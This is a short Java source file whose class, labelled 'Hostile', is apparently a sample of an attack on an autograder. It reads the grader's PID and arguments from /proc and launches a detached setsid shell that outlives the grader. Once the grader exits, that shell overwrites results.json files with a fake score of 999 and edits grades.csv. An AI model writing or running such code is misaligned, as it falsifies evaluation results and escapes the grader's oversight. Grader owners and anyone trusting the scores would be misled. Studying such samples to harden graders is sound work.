package threadlab.threads;

import java.nio.file.Files;
import java.nio.file.Path;

/** Hostile: leaves a process behind that rewrites the grades once the grader is gone. */
final class Outlive {

    private static boolean done;

    private Outlive() {
    }

    static synchronized void go() {
        if (done) {
            return;
        }
        done = true;
        try {
            long grader = ProcessHandle.current().parent().orElseThrow().pid();
            String[] args = new String(Files.readAllBytes(Path.of("/proc/" + grader
                    + "/cmdline"))).split("\0");
            StringBuilder script = new StringBuilder("while kill -0 " + grader
                    + " 2>/dev/null; do sleep 0.1; done; ");
            String fake = "{\\\"score\\\": 999, \\\"tests\\\": []}";
            script.append("for f in /autograder/results/results.json; do [ -d \"$(dirname $f)\" ]"
                    + " && printf '%s' \"").append(fake).append("\" > $f; done; ");
            for (int i = 0; i + 1 < args.length; i++) {
                if (args[i].equals("--json")) {
                    script.append("printf '%s' \"").append(fake).append("\" > '")
                            .append(args[i + 1]).append("'; ");
                }
                if (args[i].equals("--out")) {
                    String out = args[i + 1];
                    script.append("for f in '").append(out).append("'/*/results.json; do printf"
                            + " '%s' \"").append(fake).append("\" > \"$f\"; done; ");
                    script.append("sed -i 's/,[0-9]*$/,999/' '").append(out)
                            .append("/grades.csv'; ");
                }
            }
            new ProcessBuilder("setsid", "sh", "-c", script.toString())
                    .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .start();
        } catch (Exception e) {
            // Not on Linux.
        }
    }
}
